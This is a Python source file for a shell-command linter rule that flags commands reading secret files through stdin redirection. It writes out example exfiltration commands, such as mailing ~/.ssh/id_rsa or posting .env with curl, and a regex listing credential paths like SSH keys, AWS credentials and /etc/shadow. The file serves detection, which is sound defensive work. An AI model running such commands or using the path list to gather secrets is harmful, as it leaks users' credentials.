"""SH009 — input redirected from a file that holds secrets.

``mail x@y < ~/.ssh/id_rsa`` or ``curl -d @- … < .env`` feed a credential into a
command that does not name it as an argument, so checks that look at arguments miss it.
"""

from __future__ import annotations

import re

from ....model import Finding, Severity

ID = "SH009"
WHAT = "input redirection from a sensitive file (keys, credentials, .env, /etc/shadow …)"
WHY = "the secret reaches the command through stdin, where argument checks do not look"
EXAMPLE = "mail someone@example.com < ~/.ssh/id_rsa"
BENIGN = "wc -l < README.md"
TRIGGER = ("<",)

#: Paths (as written, ``~`` for home) whose content is secret.
SENSITIVE = re.compile(
    r"""(?x)
    ^/etc/(?:shadow|gshadow|sudoers|master\.passwd|passwd|security/opasswd)$
    | (?:^|/)\.ssh/
    | (?:^|/)id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?$
    | (?:^|/)\.aws/(?:credentials|config)$
    | (?:^|/)\.env(?:\.[\w.-]+)?$ | (?:^|/)\.envrc$
    | (?:^|/)\.(?:netrc|pgpass|npmrc|pypirc|git-credentials|bash_history|zsh_history)$
    | (?:^|/)\.docker/config\.json$ | (?:^|/)\.kube/config$ | (?:^|/)\.gnupg/
    | (?:^|/)\.config/gh/hosts\.yml$ | (?:^|/)\.config/gcloud/
    | ^/proc/[^/]+/environ$
    | \.(?:pem|key|p12|pfx|jks|keystore)$
    | (?:^|/)(?:credentials|secrets?)\.(?:json|ya?ml|toml|txt)$
    """
)


def check(source: str, view) -> list[Finding]:
    found: list[Finding] = []
    for cmd in view.commands:
        for redirect in cmd.redirects:
            if redirect.op in ("<", "<>") and SENSITIVE.search(redirect.target):
                found.append(Finding(ID, Severity.HIGH, f"reads {redirect.target!r} on stdin"))
    return found
